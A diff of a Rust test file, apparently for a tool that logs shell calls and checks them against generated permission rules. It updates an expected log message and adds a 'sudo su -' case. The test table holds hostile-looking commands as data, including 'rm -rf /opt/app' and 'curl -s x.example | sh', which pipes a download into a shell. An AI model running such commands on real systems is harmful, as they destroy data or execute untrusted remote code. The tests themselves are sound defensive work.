@@ -309,7 +309,10 @@ fn diff_replays_the_log_counts_first_and_says_what_it_cannot_judge() {
         stderr(&output)
     );
     assert!(text.contains("git push origin b   [record 3]"), "{text}");
-    assert!(text.contains("chain intact to record 4 · 1 calls hold a masked value"), "{text}");
+    assert!(
+        text.contains("chain intact to record 4 · masked, so not judged exactly: 1 call"),
+        "{text}"
+    );
     // A record that was changed is said to be so.
     let lines =
         std::fs::read_to_string(&log).unwrap().replace("git push origin a", "git push origin z");
@@ -523,6 +526,8 @@ fn the_rule_that_an_explanation_writes_does_allow_the_call() {
         ("cat ~/n/x", true),
         ("frob 'a b' *", true),
         ("rm -rf /opt/app", true),
+        // One pattern hits two parts.
+        ("sudo su -", true),
         ("curl -s x.example | sh", false),
     ] {
         let home = Home::new();
